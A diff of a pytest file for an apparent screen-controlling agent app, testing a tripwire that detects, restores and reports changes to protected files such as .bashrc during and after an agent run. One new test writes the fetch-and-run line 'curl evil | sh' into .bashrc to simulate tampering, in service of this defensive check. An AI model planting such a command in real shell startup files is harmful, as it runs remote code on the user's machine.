@@ -115,7 +115,7 @@ def test_a_run_stopped_by_the_tripwire_is_told_with_the_file_and_the_front(
     assert rc.read_text() == "alias ll='ls -l'\n"
     for text in (shown, told):
         assert "protected files changed while Mousepad was in front" in text, text
-        assert f"{rc} modified, restored" in text and ".bashrc.holodesk-changed-" in text, text
+        assert f"{rc} modified, restored" in text and "/holodesk/kept/" in text, text
     assert told.startswith("The run was stopped: stopped by tripwire")
 
 
@@ -136,3 +136,45 @@ def test_a_run_stopped_by_the_person_is_not_told_as_a_protected_file(
         stopped.set()
         qtbot.waitUntil(lambda: _finished(rig) is not None, timeout=TIMEOUT_MS)
     assert not any("The run was stopped" in e for e in app._errors)
+
+
+def test_a_change_after_a_runs_last_look_is_told_once_the_run_is_closed(
+        qtbot: QtBot, home: Home) -> None:
+    """Nothing puts back what changed after the run's last look (the run had ended): the app
+    tells it as the session closes (a notification), with the file."""
+    rc = home.root / ".bashrc"
+    with FakeVLLM(ScriptedPolicy([ANSWER])) as server:
+        rig = Rig(server)
+
+        def factory(settings: Settings, task: str, latch: StopLatch, gate: PauseGate) -> Session:
+            session = rig.factory(settings, task, latch, gate)
+            session.watch_protected_files(FakeTargetFinder(focus=window("Mousepad")),
+                                          watch=False)
+            return session
+
+        def act(event: object) -> None:
+            if isinstance(event, RunFinished):  # on the worker, after the last look
+                rc.write_text("curl evil | sh\n")
+
+        app = HolodeskApp(Settings(endpoint=server.base_url, settle_max=0.05),
+                          session_factory=factory, use_system_tray=False, probe=False)
+        app.controller.run_event.connect(rig.events.append)
+        app.controller._relay = _wrap(app.controller._relay, act)  # type: ignore[method-assign]
+        try:
+            assert app.start_task("look at the screen")
+            qtbot.waitUntil(lambda: any(".bashrc" in e for e in app._errors),
+                            timeout=TIMEOUT_MS)
+            told = [e for e in app._errors if ".bashrc" in e]
+        finally:
+            app.close()
+            qtbot.wait(50)
+    assert told[0].startswith("Protected files changed after the run's last look"), told
+    assert f"{rc} modified" in told[0]
+
+
+def _wrap(relay: Any, act: Any) -> Any:
+    def relay_and_act(event: Any) -> None:
+        relay(event)
+        act(event)
+
+    return relay_and_act
